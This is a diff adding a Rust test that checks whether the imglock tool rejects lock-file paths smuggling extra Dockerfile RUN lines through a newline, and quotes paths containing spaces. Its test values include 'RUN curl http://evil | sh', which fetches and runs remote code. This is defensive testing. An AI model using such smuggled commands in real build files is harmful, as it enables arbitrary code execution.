@@ -292,3 +292,75 @@ fn the_specs_r_library_is_locked_and_used_by_emit() {
         stderr(&output)
     );
 }
+
+/// Paths from a lock reach the Dockerfile's comments and `RUN` lines: one that would end the line
+/// (a line break) is refused when the lock is read, and one with a space is quoted.
+#[test]
+fn image_paths_from_the_lock_are_checked_and_quoted() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let work = tempfile::tempdir().unwrap();
+    let lock = work.path().join("imglock.lock");
+    let run = |args: &[&str]| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_imglock"))
+            .args(args)
+            .env("IMGLOCK_CACHE_DIR", work.path().join("cache"))
+            .current_dir(work.path())
+            .output()
+            .unwrap()
+    };
+    let spec = root.join("examples/mixed-fixture/imglock.toml");
+    let output = run(&[
+        "resolve",
+        "--spec",
+        spec.to_str().unwrap(),
+        "--lock",
+        "imglock.lock",
+    ]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let text = std::fs::read_to_string(&lock).unwrap();
+
+    for (from, to) in [
+        (
+            "maven-target = \"/opt/jars\"",
+            "maven-target = \"/opt/jars\\nRUN curl http://evil | sh\"",
+        ),
+        (
+            "conda-prefix = \"/opt/conda\"",
+            "conda-prefix = \"/opt/conda\\nRUN id\"",
+        ),
+        ("name = \"jars\"", "name = \"jars\\nRUN id\""),
+    ] {
+        assert!(text.contains(from), "{from}");
+        std::fs::write(&lock, text.replace(from, to)).unwrap();
+        let output = run(&["emit", "--lock", "imglock.lock", "--out", "bad"]);
+        assert_eq!(output.status.code(), Some(2), "{to}: {}", stderr(&output));
+        assert!(
+            stderr(&output).contains("is not a valid imglock lock"),
+            "{}",
+            stderr(&output)
+        );
+        assert!(!work.path().join("bad/Dockerfile").exists());
+    }
+
+    let spaced = text
+        .replace(
+            "maven-target = \"/opt/jars\"",
+            "maven-target = \"/opt/my jars\"",
+        )
+        .replace(
+            "conda-prefix = \"/opt/conda\"",
+            "conda-prefix = \"/opt/my conda\"",
+        );
+    std::fs::write(&lock, spaced).unwrap();
+    let output = run(&["emit", "--lock", "imglock.lock", "--out", "good"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let dockerfile = std::fs::read_to_string(work.path().join("good/Dockerfile")).unwrap();
+    assert!(
+        dockerfile.contains("mkdir -p '/opt/my jars'; cd '/opt/my jars'"),
+        "{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("micromamba install -y -p '/opt/my conda' -f"),
+        "{dockerfile}"
+    );
+}
